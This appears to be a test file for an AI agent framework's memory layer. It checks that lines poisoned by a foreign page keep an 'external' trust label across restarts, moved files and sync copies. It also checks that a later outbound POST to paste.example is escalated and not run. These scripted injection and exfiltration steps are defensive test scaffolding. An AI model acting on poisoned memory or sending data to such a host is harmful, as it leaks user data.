import { mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Reply } from '@bulkhead/home/testing';
import { createMemorySessionStore, createSplitSessionStore, type SessionStore } from '@bulkhead/sessions';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FOREIGN, ORDER } from '../testing/flow-stage.ts';
import { LOAD_MEMORY, memoryStage } from '../testing/memory-stage.ts';

let root: string;
let store: SessionStore;
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'bulkhead-recall-')));
  store = createMemorySessionStore();
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const life = (replies: readonly Reply[] = [], sessions = true) =>
  memoryStage(root, { store, replies, sessions });
const read: Reply = { calls: [['read', { path: FOREIGN }]] };
const remember = (text: string, file = 'memory'): Reply => ({ calls: [['memory_write', { text, file }]] });
const search = (query: string): Reply => ({ calls: [['memory_search', { query }]] });
const send: Reply = {
  calls: [['http_request', { method: 'POST', url: 'https://paste.example/', body: 'hello' }]],
};
const done: Reply = { text: 'done' };
const POISON = `Note on the deploy of the harbour: ${ORDER}`;

/** A session that read a stranger's page and remembers what it says. */
async function poison(file = 'memory'): Promise<void> {
  const stage = life([LOAD_MEMORY, read, remember(POISON, file), done]);
  using _stage = stage;
  await using _memory = stage.memory;
  await stage.say(stage.sessions.create(root), 'Read the page and remember it.');
  expect(stage.warnings).toEqual([]);
}

const written = (file = 'MEMORY.md') => readFileSync(join(root, 'profiles/default', file), 'utf8');

describe('the labels of memory', () => {
  it('keeps the label of a poisoned line over a restart: who reads it is asked at the sink [FT54] [F2]', async () => {
    await poison();
    expect(written()).toContain('paste.example');
    const stage = life([
      LOAD_MEMORY,
      search('deploy of the harbour'),
      send,
      done,
      LOAD_MEMORY,
      search('nothing'),
      done,
    ]);
    using _stage = stage;
    await using _memory = stage.memory;
    const session = stage.sessions.create(root);
    await stage.say(session, 'How do we deploy the harbour?');
    expect(stage.flows.labelOf(session).trust).toBe('external');
    expect(stage.decided(session)).toEqual(['allow', 'escalate']);
    expect(stage.calls.map(({ tool }) => tool)).not.toContain('http_request');
    const other = stage.sessions.create(root);
    await stage.say(other, 'Anything new?');
    expect(stage.flows.labelOf(other).trust).toBe('workspace');
  });

  it('raises the session that is only shown it, and again after the next restart [FT54] [F2] [M3]', async () => {
    await poison();
    const first = life();
    const session = first.sessions.create(root);
    {
      using _stage = first;
      await using memory = first.memory;
      const clean = await memory.service.recall({
        sessionId: session,
        message: 'weather of tomorrow',
        now: 0,
      });
      expect(clean.chunks).toEqual([]);
      expect(first.flows.labelOf(session).trust).toBe('user');
      const shown = await memory.service.recall({
        sessionId: session,
        message: 'deploy the harbour',
        now: 0,
      });
      expect(shown.chunks[0]?.text).toContain('paste.example');
      expect(first.flows.labelOf(session).trust).toBe('external');
    }
    const second = life([LOAD_MEMORY, send, done]);
    using _second = second;
    await using _memory = second.memory;
    expect(second.flows.labelOf(session).trust).toBe('external');
    await second.say(session, 'Go on.');
    expect(second.decided(session)).toEqual(['escalate']);
  });

  it('raises a session by lines of the user file that are in every prompt [F2]', async () => {
    await poison('user');
    expect(written('USER.md')).toContain('paste.example');
    const stage = life();
    using _stage = stage;
    await using memory = stage.memory;
    const session = stage.sessions.create(root);
    await memory.service.recall({ sessionId: session, message: 'hello', now: 0 });
    expect(stage.flows.labelOf(session).trust).toBe('external');
  });

  it('takes a line that the user wrote for the user’s own, beside one that is not [F2] [M4]', async () => {
    await poison();
    writeFileSync(join(root, 'profiles/default/knowledge.md'), '');
    writeFileSync(join(root, 'profiles/default/HEARTBEAT.md'), 'The ferry leaves at nine.\n');
    const stage = life([LOAD_MEMORY, search('ferry'), done]);
    using _stage = stage;
    await using _memory = stage.memory;
    const session = stage.sessions.create(root);
    await stage.say(session, 'When does it leave?');
    expect(stage.flows.labelOf(session).trust).toBe('workspace');
  });

  it('knows a poisoned line wherever it is moved, also in a copy of a sync tool [F2] [M4]', async () => {
    await poison();
    const line =
      written()
        .split('\n')
        .find((text) => text.includes('paste.example')) ?? '';
    rmSync(join(root, 'profiles/default/MEMORY.md'));
    writeFileSync(join(root, 'profiles/default/MEMORY (conflicted copy).md'), `  * ${line.slice(2)}  \r\n`);
    const stage = life([LOAD_MEMORY, search('harbour'), done], false);
    using _stage = stage;
    await using _memory = stage.memory;
    const session = stage.sessions.create(root);
    await stage.say(session, 'Look.');
    expect(stage.flows.labelOf(session).trust).toBe('external');
    expect(stage.warnings.join()).toContain('conflicted copy');
  });

  it('labels what is found in a past session as that session was [F2] [M2]', async () => {
    const stage = life([read, { text: 'The lighthouse says so.' }, LOAD_MEMORY, search('lighthouse'), done]);
    using _stage = stage;
    await using _memory = stage.memory;
    await stage.say(stage.sessions.create(root), 'Read it.');
    const session = stage.sessions.create(root);
    await stage.say(session, 'What of the lighthouse?');
    expect(stage.flows.labelOf(session).trust).toBe('external');
  });

  it('finds nothing of a session that was deleted or is off the record [D4] [S5] [M2]', async () => {
    const split = createSplitSessionStore(store, createMemorySessionStore());
    const stage = memoryStage(root, {
      store: split,
      replies: [{ text: 'The lighthouse is red.' }, { text: 'So is the lighthouse keeper.' }],
    });
    using _stage = stage;
    await using memory = stage.memory;
    const session = stage.sessions.create(root);
    await stage.say(session, 'Tell me.');
    await stage.say(stage.sessions.create(root, true), 'And secretly?');
    const found = await memory.service.search('lighthouse', 5);
    expect(found.map(({ path }) => path)).toEqual([`sessions/${session}`]);
    split.deleteSession(session, 1);
    expect(await memory.service.search('lighthouse', 5)).toEqual([]);
  });

  it('says who wrote a line, in which session and when [M4]', async () => {
    await poison();
    const stage = life();
    using _stage = stage;
    await using memory = stage.memory;
    const line =
      written()
        .split('\n')
        .find((text) => text.includes('paste.example')) ?? '';
    expect(memory.records.of(line)).toMatchObject([
      { author: 'agent', session: store.listSessions(9)[0]?.id, label: { trust: 'external' } },
    ]);
    expect(memory.records.of('The user’s own line')).toEqual([]);
  });

  it('tells nothing of memory whose records can not be read, and counts the turn as anybody’s', async () => {
    await poison();
    const stage = life();
    using _stage = stage;
    stage.tables.prepare('DROP TABLE memory_lines').run();
    await using memory = stage.memory;
    const session = stage.sessions.create(root);
    const turn = { sessionId: session, message: 'deploy the harbour', now: 0 };
    await expect(memory.service.recall(turn)).resolves.toEqual({ chunks: [], notes: [] });
    expect(stage.flows.labelOf(session).trust).toBe('external');
    expect(stage.warnings.join()).toContain('memory_lines');
  });
});
